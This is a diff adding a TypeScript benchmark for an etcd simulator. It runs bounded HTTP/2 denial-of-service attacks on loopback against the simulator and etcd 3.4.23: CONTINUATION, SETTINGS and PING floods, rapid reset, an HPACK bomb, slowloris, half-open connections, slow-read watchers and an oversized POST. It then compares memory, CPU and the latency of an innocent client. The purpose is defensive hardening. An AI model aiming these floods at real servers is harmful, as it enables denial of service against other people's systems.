@@ -1,0 +1,396 @@
+/**
+ * The client port under attack (issue 32), etcd 3.4.23 and `etcdsim serve` side by side: each attack runs
+ * against a fresh server process on loopback for a bounded time and count, while an innocent client on its
+ * own HTTP/2 connection makes a gRPC Put and a Range every 200 ms. Per attack and server: peak resident set
+ * (VmHWM), CPU seconds spent during the attack (/proc/<pid>/stat), the innocent client's median and
+ * maximum latency, and what the attacker saw (GOAWAY code, resets, HTTP status, connections closed).
+ *
+ * The issue's goal per row: the server stays up, peak memory ≤ etcd's, CPU ≤ etcd's, and the innocent
+ * median within 2× its median with no attack (the first rows). `npm run bench -- --only attacks` runs it;
+ * docs/security.md records a run. Loopback only; every attack stops at its duration or count.
+ */
+import * as http2 from 'node:http2';
+import * as net from 'node:net';
+import { readFileSync } from 'node:fs';
+import { CLIENT_PREFACE, ErrorCode, Flags, FrameType, SETTINGS_ACK, frame, parseFrames, settingsFrame } from '../src/h2/frames.js';
+import { HpackEncoder } from '../src/h2/hpack.js';
+import type { BenchContext, BenchSection, Row } from './harness.js';
+import { hasBinary } from './server.bench.js';
+import { compileSim, cpuNs, startEtcd, startSim, type Served } from './served.bench.js';
+
+interface Sizes {
+  /** Seconds each attack runs (at most). */
+  readonly seconds: number;
+  /** Connections of the many-connection attacks (half-open, slowloris), and watch streams of the slow reader. */
+  readonly conns: number;
+  readonly watchers: number;
+}
+const FULL: Sizes = { seconds: 10, conns: 2000, watchers: 200 };
+const QUICK: Sizes = { seconds: 3, conns: 500, watchers: 50 };
+
+const ERROR_NAMES = Object.fromEntries(Object.entries(ErrorCode).map(([k, v]) => [v, k])) as Record<number, string>;
+
+/** What an attacker saw: GOAWAY codes, RST_STREAMs, HTTP statuses, connections the server closed. */
+class Seen {
+  goaways = new Map<number, number>();
+  resets = 0;
+  statuses = new Map<string, number>();
+  closed = 0;
+  text(): string {
+    const parts: string[] = [];
+    for (const [c, n] of this.goaways) parts.push(`GOAWAY ${ERROR_NAMES[c] ?? c}${n > 1 ? ` ×${n}` : ''}`);
+    if (this.resets > 0) parts.push(`${this.resets} RST_STREAM`);
+    for (const [s, n] of this.statuses) parts.push(`HTTP ${s}${n > 1 ? ` ×${n}` : ''}`);
+    if (this.closed > 0) parts.push(`${this.closed} closed`);
+    return parts.length === 0 ? 'nothing' : parts.join(', ');
+  }
+}
+
+/** A raw attacker connection: reads (and counts) the server's frames unless `read` is false. */
+async function rawConn(address: string, seen: Seen, read = true): Promise<net.Socket> {
+  const [host, port] = address.split(':') as [string, string];
+  const s = net.connect(Number(port), host);
+  await new Promise<void>((resolve, reject) => {
+    s.once('connect', resolve);
+    s.once('error', reject);
+  });
+  s.on('error', () => {});
+  s.on('close', () => {
+    if (!dropped.has(s)) seen.closed++;
+  });
+  let rest = Buffer.alloc(0);
+  if (read)
+    s.on('data', (d: Buffer) => {
+      const { frames, rest: r } = parseFrames(rest.length === 0 ? d : Buffer.concat([rest, d]));
+      rest = Buffer.from(r);
+      for (const f of frames) {
+        if (f.type === FrameType.GOAWAY) seen.goaways.set(f.payload.readUInt32BE(4), (seen.goaways.get(f.payload.readUInt32BE(4)) ?? 0) + 1);
+        else if (f.type === FrameType.RST_STREAM) seen.resets++;
+        else if (f.type === FrameType.SETTINGS && (f.flags & Flags.ACK) === 0) s.write(SETTINGS_ACK);
+      }
+    });
+  else s.pause();
+  return s;
+}
+
+/** Sockets the attacker closed itself (not counted as closed by the server). */
+const dropped = new WeakSet<net.Socket>();
+function drop(s: net.Socket): void {
+  dropped.add(s);
+  s.destroy();
+}
+
+/** Writes `next()` as fast as the socket takes it, until the deadline, the count or the socket's end. */
+async function flood(s: net.Socket, next: () => Buffer, deadline: number, count = Infinity): Promise<void> {
+  let n = 0;
+  while (Date.now() < deadline && n < count && !s.destroyed) {
+    n++;
+    if (!s.write(next())) {
+      await new Promise<void>((resolve) => {
+        const t = setTimeout(done, Math.max(0, deadline - Date.now()));
+        function done(): void {
+          clearTimeout(t);
+          s.off('drain', done);
+          s.off('close', done);
+          resolve();
+        }
+        s.once('drain', done);
+        s.once('close', done);
+      });
+    }
+  }
+}
+
+const until = (deadline: number): Promise<void> => new Promise((r) => setTimeout(r, Math.max(0, deadline - Date.now())));
+const grpcMessage = (hex: string): Buffer => {
+  const m = Buffer.from(hex, 'hex');
+  const b = Buffer.alloc(5 + m.length);
+  b.writeUInt32BE(m.length, 1);
+  m.copy(b, 5);
+  return b;
+};
+const PREFACE = Buffer.concat([CLIENT_PREFACE, settingsFrame([])]);
+const RANGE_HEADERS = new HpackEncoder().encode([':method', 'POST', ':scheme', 'http', ':path', '/etcdserverpb.KV/Range', ':authority', 'x', 'content-type', 'application/grpc', 'te', 'trailers']);
+const NOT_GRPC = new HpackEncoder().encode([':method', 'POST', ':scheme', 'http', ':path', '/x', ':authority', 'x', 'content-type', 'text/plain']);
+const WATCH_HEADERS = new HpackEncoder().encode([':method', 'POST', ':scheme', 'http', ':path', '/etcdserverpb.Watch/Watch', ':authority', 'x', 'content-type', 'application/grpc', 'te', 'trailers']);
+
+type Attack = (address: string, seen: Seen, sz: Sizes, deadline: number) => Promise<void>;
+
+/** An HPACK literal with incremental indexing (RFC 7541 §6.2.1), new name; lengths under 2^14. */
+function indexedLiteral(name: string, valueLength: number): Buffer {
+  const len = (n: number): number[] => (n < 127 ? [n] : n < 127 + 128 * 128 ? [127, ((n - 127) & 0x7f) | 0x80, (n - 127) >> 7] : []);
+  return Buffer.concat([Buffer.from([0x40, ...len(name.length)]), Buffer.from(name), Buffer.from(len(valueLength)), Buffer.alloc(valueLength, 0x61)]);
+}
+
+const ATTACKS: ReadonlyArray<{ name: string; run: Attack }> = [
+  { name: 'no attack', run: async (_a, _s, _z, deadline) => until(deadline) },
+  {
+    name: 'empty CONTINUATION flood',
+    run: async (address, seen, _z, deadline) => {
+      const s = await rawConn(address, seen);
+      s.write(Buffer.concat([PREFACE, frame(FrameType.HEADERS, 0, 1, Buffer.alloc(0))]));
+      const batch = Buffer.concat(Array.from({ length: 4096 }, () => frame(FrameType.CONTINUATION, 0, 1, Buffer.alloc(0))));
+      await flood(s, () => batch, deadline);
+      drop(s);
+    },
+  },
+  {
+    name: 'server-reset streams, replies unread',
+    run: async (address, seen, _z, deadline) => {
+      const s = await rawConn(address, seen, false);
+      s.write(PREFACE);
+      let id = 1;
+      const next = (): Buffer => {
+        const parts: Buffer[] = [];
+        for (let i = 0; i < 256 && id < 0x7fffffff; i++, id += 2) parts.push(frame(FrameType.HEADERS, Flags.END_HEADERS | Flags.END_STREAM, id, NOT_GRPC));
+        return Buffer.concat(parts);
+      };
+      await flood(s, next, deadline, 2000);
+      drop(s);
+    },
+  },
+  {
+    name: 'SETTINGS flood, replies unread',
+    run: async (address, seen, _z, deadline) => {
+      const s = await rawConn(address, seen, false);
+      s.write(PREFACE);
+      const batch = Buffer.concat(Array.from({ length: 4096 }, () => settingsFrame([[0x4, 65535]])));
+      await flood(s, () => batch, deadline);
+      drop(s);
+    },
+  },
+  {
+    name: 'PING flood',
+    run: async (address, seen, _z, deadline) => {
+      const s = await rawConn(address, seen);
+      s.write(PREFACE);
+      const batch = Buffer.concat(Array.from({ length: 4096 }, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8))));
+      await flood(s, () => batch, deadline);
+      drop(s);
+    },
+  },
+  {
+    name: 'rapid reset',
+    run: async (address, seen, _z, deadline) => {
+      const s = await rawConn(address, seen);
+      s.write(PREFACE);
+      let id = 1;
+      const body = frame(FrameType.DATA, Flags.END_STREAM, 0, grpcMessage('0a0161'));
+      const next = (): Buffer => {
+        const parts: Buffer[] = [];
+        for (let i = 0; i < 128 && id < 0x7fffffff; i++, id += 2) {
+          body.writeUInt32BE(id, 5);
+          parts.push(frame(FrameType.HEADERS, Flags.END_HEADERS, id, RANGE_HEADERS), Buffer.from(body), frame(FrameType.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])));
+        }
+        return Buffer.concat(parts);
+      };
+      await flood(s, next, deadline);
+      drop(s);
+    },
+  },
+  {
+    name: 'HPACK bomb',
+    run: async (address, seen, _z, deadline) => {
+      const s = await rawConn(address, seen);
+      s.write(PREFACE);
+      // One 4 KiB field in the dynamic table, then header blocks of 12,000 references to it (48 MB decoded each).
+      s.write(frame(FrameType.HEADERS, Flags.END_HEADERS | Flags.END_STREAM, 1, Buffer.concat([Buffer.from([0x83, 0x86]), indexedLiteral('x-bomb', 4000)])));
+      const refs = Buffer.concat([Buffer.from([0x83, 0x86]), Buffer.alloc(12_000, 0xbe)]);
+      let id = 3;
+      const next = (): Buffer => {
+        const f = frame(FrameType.HEADERS, Flags.END_HEADERS | Flags.END_STREAM, id, refs);
+        id += 2;
+        return f;
+      };
+      await flood(s, next, deadline);
+      drop(s);
+    },
+  },
+  {
+    name: 'half-open connections (half a preface)',
+    run: async (address, seen, sz, deadline) => {
+      const conns: net.Socket[] = [];
+      for (let i = 0; i < sz.conns && Date.now() < deadline; i++) {
+        const s = await rawConn(address, seen, false);
+        s.write(CLIENT_PREFACE.subarray(0, 12));
+        conns.push(s);
+      }
+      await until(deadline);
+      for (const s of conns) drop(s);
+    },
+  },
+  {
+    name: 'slowloris (HTTP/1.1 headers a byte at a time)',
+    run: async (address, seen, sz, deadline) => {
+      const conns: net.Socket[] = [];
+      for (let i = 0; i < sz.conns && Date.now() < deadline; i++) {
+        const s = await rawConn(address, seen, false);
+        s.write('GET /version HTTP/1.1\r\nHost: x\r\nX-a: ');
+        conns.push(s);
+      }
+      while (Date.now() < deadline) {
+        for (const s of conns) if (!s.destroyed) s.write('a');
+        await until(Math.min(deadline, Date.now() + 1000));
+      }
+      for (const s of conns) drop(s);
+    },
+  },
+  {
+    name: 'slow-read watch streams',
+    run: async (address, seen, sz, deadline) => {
+      // Watchers on /big that never read; the attacker itself puts 64 KiB values there, so every put fans out.
+      const conns: net.Socket[] = [];
+      const create = grpcMessage('0a0c0a042f6269671204 2f626968'.replace(/ /g, ''));
+      for (let c = 0; c < 10; c++) {
+        const s = await rawConn(address, seen, false);
+        const parts = [PREFACE, frame(FrameType.WINDOW_UPDATE, 0, 0, Buffer.from([0x7f, 0xff, 0x00, 0x00]))];
+        for (let i = 0; i < sz.watchers / 10; i++) parts.push(frame(FrameType.HEADERS, Flags.END_HEADERS, 2 * i + 1, WATCH_HEADERS), frame(FrameType.DATA, 0, 2 * i + 1, create));
+        s.write(Buffer.concat(parts));
+        conns.push(s);
+      }
+      const writer = http2.connect(`http://${address}`);
+      writer.on('error', () => {});
+      const value = Buffer.alloc(64 * 1024, 0x76);
+      const put = Buffer.concat([Buffer.from([0x0a, 0x04]), Buffer.from('/big'), Buffer.from([0x12, 0x80, 0x80, 0x04]), value]);
+      const message = Buffer.alloc(5 + put.length);
+      message.writeUInt32BE(put.length, 1);
+      put.copy(message, 5);
+      while (Date.now() < deadline) {
+        await new Promise<void>((resolve) => {
+          const req = writer.request({ ':method': 'POST', ':path': '/etcdserverpb.KV/Put', 'content-type': 'application/grpc', te: 'trailers' });
+          req.on('error', () => resolve());
+          req.on('close', () => resolve());
+          req.resume();
+          req.end(message);
+        });
+      }
+      writer.destroy();
+      for (const s of conns) drop(s);
+    },
+  },
+  {
+    name: 'HTTP/1.1 200 MiB POST to the gateway',
+    run: async (address, seen, _z, deadline) => {
+      const s = await rawConn(address, seen, false);
+      let head = '';
+      s.on('data', (d: Buffer) => {
+        head += d.toString('latin1');
+        const m = /^HTTP\/1\.1 (\d+)/.exec(head);
+        if (m !== null && !seen.statuses.has(m[1]!)) seen.statuses.set(m[1]!, 1);
+      });
+      s.resume();
+      const n = 200 * 1024 * 1024;
+      s.write(`POST /v3/kv/put HTTP/1.1\r\nHost: x\r\nContent-Length: ${n}\r\n\r\n`);
+      const chunk = Buffer.alloc(1 << 20, 0x41);
+      await flood(s, () => chunk, deadline, n / chunk.length);
+      await until(Math.min(deadline, Date.now() + 1000));
+      drop(s);
+    },
+  },
+];
+
+/** The innocent client: a gRPC Put and a Range every 200 ms on its own connection; each call's latency in ms. */
+async function innocent(address: string, deadline: number): Promise<number[]> {
+  const session = http2.connect(`http://${address}`);
+  session.on('error', () => {});
+  const call = (path: string, message: Buffer): Promise<number> =>
+    new Promise((resolve) => {
+      const t0 = performance.now();
+      const done = (): void => resolve(performance.now() - t0);
+      try {
+        const req = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' });
+        req.on('error', done);
+        req.on('close', done);
+        req.resume();
+        req.end(message);
+      } catch {
+        resolve(Infinity);
+      }
+    });
+  const put = grpcMessage('0a01611201' + '62');
+  const range = grpcMessage('0a0161');
+  const out: number[] = [];
+  while (Date.now() < deadline) {
+    const next = Date.now() + 200;
+    out.push(await call('/etcdserverpb.KV/Put', put));
+    out.push(await call('/etcdserverpb.KV/Range', range));
+    await until(next);
+  }
+  session.destroy();
+  return out;
+}
+
+function vmHwm(pid: number): number {
+  const m = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'latin1'));
+  return m === null ? NaN : Number(m[1]) * 1024;
+}
+const median = (xs: readonly number[]): number => {
+  const s = [...xs].sort((a, b) => a - b);
+  return s.length === 0 ? NaN : s[s.length >> 1]!;
+};
+
+interface Outcome {
+  /** VmHWM, and its growth over the resident set at rest (read before the attack). */
+  readonly peak: number;
+  readonly growth: number;
+  readonly cpuS: number;
+  readonly p50: number;
+  readonly max: number;
+  readonly seen: string;
+  readonly up: boolean;
+}
+
+async function runAttack(start: () => Promise<Served>, attack: Attack, sz: Sizes): Promise<Outcome> {
+  const server = await start();
+  try {
+    const seen = new Seen();
+    const rest = vmHwm(server.pid);
+    const deadline = Date.now() + sz.seconds * 1000;
+    const cpu0 = cpuNs(server.pid);
+    const [lat] = await Promise.all([innocent(server.address, deadline + 500), attack(server.address, seen, sz, deadline)]);
+    const cpuS = (cpuNs(server.pid) - cpu0) / 1e9;
+    let up = true;
+    try {
+      process.kill(server.pid, 0);
+    } catch {
+      up = false;
+    }
+    const peak = vmHwm(server.pid);
+    return { peak, growth: peak - rest, cpuS, p50: median(lat), max: Math.max(...lat), seen: seen.text(), up };
+  } finally {
+    await server.stop();
+  }
+}
+
+const mb = (n: number): string => `${(n / 1048576).toFixed(0)} MB`;
+const ms = (n: number): string => (Number.isFinite(n) ? `${n.toFixed(1)} ms` : 'failed');
+
+export const attacksSection: BenchSection = {
+  name: 'attacks',
+  title: 'the client port under attack (loopback, bounded): etcdsim serve vs etcd 3.4.23, a fresh process per attack, an innocent gRPC client on its own connection',
+  async run(ctx: BenchContext): Promise<Row[]> {
+    const sz = ctx.quick ? QUICK : FULL;
+    if (!hasBinary('etcd')) {
+      ctx.log('attacks: skipped — needs etcd 3.4.23 on PATH (`apt-get install etcd-server`)');
+      return [];
+    }
+    const js = await compileSim(ctx);
+    const rows: Row[] = [];
+    const table: string[] = ['| attack | server | peak RSS (growth) | CPU s | innocent p50 | innocent max | attacker saw |', '|---|---|---|---|---|---|---|'];
+    for (const a of ATTACKS) {
+      const e = await runAttack(startEtcd, a.run, sz);
+      const s = await runAttack(() => startSim(js), a.run, sz);
+      for (const [name, o] of [['etcd 3.4.23', e], ['etcdsim', s]] as const) {
+        table.push(`| ${a.name} | ${name} | ${mb(o.peak)} (+${mb(o.growth)}) | ${o.cpuS.toFixed(2)} | ${ms(o.p50)} | ${ms(o.max)} | ${o.up ? '' : 'SERVER DOWN; '}${o.seen} |`);
+      }
+      ctx.log(`attacks: ${a.name}: etcd ${mb(e.peak)} (+${mb(e.growth)}) ${e.cpuS.toFixed(2)} s p50 ${ms(e.p50)} max ${ms(e.max)} (${e.seen}); etcdsim ${mb(s.peak)} (+${mb(s.growth)}) ${s.cpuS.toFixed(2)} s p50 ${ms(s.p50)} max ${ms(s.max)} (${s.seen})`);
+      const sample = (x: number): Row['subject'] => ({ nsPerOp: x, rounds: [x], ops: 1 });
+      rows.push({ name: `${a.name}: peak RSS`, unit: 'process', measure: 'bytes', subject: sample(s.peak), baselineName: 'etcd 3.4.23', baseline: sample(e.peak), ratio: s.peak / e.peak, note: `growth over rest ${mb(s.growth)} vs ${mb(e.growth)}; attacker saw: ${s.seen} (etcd: ${e.seen})` });
+      rows.push({ name: `${a.name}: RSS growth`, unit: 'process', measure: 'bytes', subject: sample(Math.max(s.growth, 1)), baselineName: 'etcd 3.4.23', baseline: sample(Math.max(e.growth, 1)), ratio: Math.max(s.growth, 1) / Math.max(e.growth, 1), target: { maxRatio: 1 } });
+      rows.push({ name: `${a.name}: CPU during the attack`, unit: 'attack', subject: sample(s.cpuS * 1e9), baselineName: 'etcd 3.4.23', baseline: sample(e.cpuS * 1e9), ratio: s.cpuS / e.cpuS, target: { maxRatio: 1 } });
+      rows.push({ name: `${a.name}: innocent median latency`, unit: 'call', subject: sample(s.p50 * 1e6), baselineName: 'etcd 3.4.23', baseline: sample(e.p50 * 1e6), ratio: s.p50 / e.p50, note: `max ${ms(s.max)} vs ${ms(e.max)}` });
+    }
+    ctx.log(`attacks: side by side (${sz.seconds} s per attack)\n${table.join('\n')}`);
+    return rows;
+  },
+};
